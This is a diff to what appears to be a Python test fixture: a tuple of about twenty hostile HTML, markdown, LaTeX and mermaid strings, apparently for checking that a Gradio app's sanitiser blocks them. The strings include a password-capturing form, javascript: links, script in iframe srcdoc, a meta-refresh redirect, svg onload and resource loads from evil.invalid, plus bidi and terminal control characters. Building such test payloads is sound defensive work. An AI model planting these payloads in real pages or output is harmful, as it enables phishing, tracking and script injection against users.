@@ -235,13 +235,22 @@ HOSTILE = (
     '<form action="http://evil.invalid/"><input name=password autofocus></form>',
     "[link](javascript:alert(1)) <a href=javascript:alert(1)>here</a>",
     '<p style="background:url(http://evil.invalid/c.png)">styled</p>',
-    "<video src=http://evil.invalid/d.mp4 autoplay></video>",
-    "<picture><source srcset=http://evil.invalid/e.png></picture><iframe src=http://evil.invalid/></iframe>",
-    '<base href="http://evil.invalid/"><link rel=stylesheet href=http://evil.invalid/f.css>',
-    "$$\\href{javascript:alert(1)}{x}$$ ```mermaid\ngraph TD\n```",
+    "<video src=http://evil.invalid/d.mp4 autoplay></video><audio src=http://evil.invalid/d.mp3 autoplay></audio>",
+    "<picture><source srcset=http://evil.invalid/e.png></picture>",
+    "<iframe src=http://evil.invalid/ srcdoc='<script>top.document.title=1</script>'></iframe>",
+    '<base href="http://evil.invalid/">',
+    "<link rel=stylesheet href=http://evil.invalid/f.css>",
+    '<meta http-equiv=refresh content="0;url=http://evil.invalid/">',
+    "<svg onload=alert(1)><image href=http://evil.invalid/h.svg /><use href=http://evil.invalid/i.svg#x /></svg>",
+    "<object data=http://evil.invalid/j.swf></object><embed src=http://evil.invalid/k.swf>",
+    "<style>@import url(http://evil.invalid/l.css); body{display:none}</style>",
+    "$$\\href{javascript:alert(1)}{x}$$ \\(\\includegraphics{http://evil.invalid/m.png}\\)",
+    '```mermaid\ngraph TD; A-->B; click A "http://evil.invalid/n"\n```',
     "</details></div></blockquote><h1>Official notice</h1>",
-    "&lt;img src=http://evil.invalid/g.png&gt; \x1b[31mred\x07 \u202eesrever\u2066 \U000e0041tag",
+    "&lt;img src=http://evil.invalid/g.png&gt; <http://evil.invalid/o> [ref]: http://evil.invalid/p",
+    "\x1b[31mred\x07 \u202eesrever\u2066 \U000e0041tag",
 )
+"""The twenty constructs: what `shared/FACTS.md` names as getting through Gradio's sanitiser, and their kin."""
 
 
 def hostile(question: str = "hostile") -> Answer:
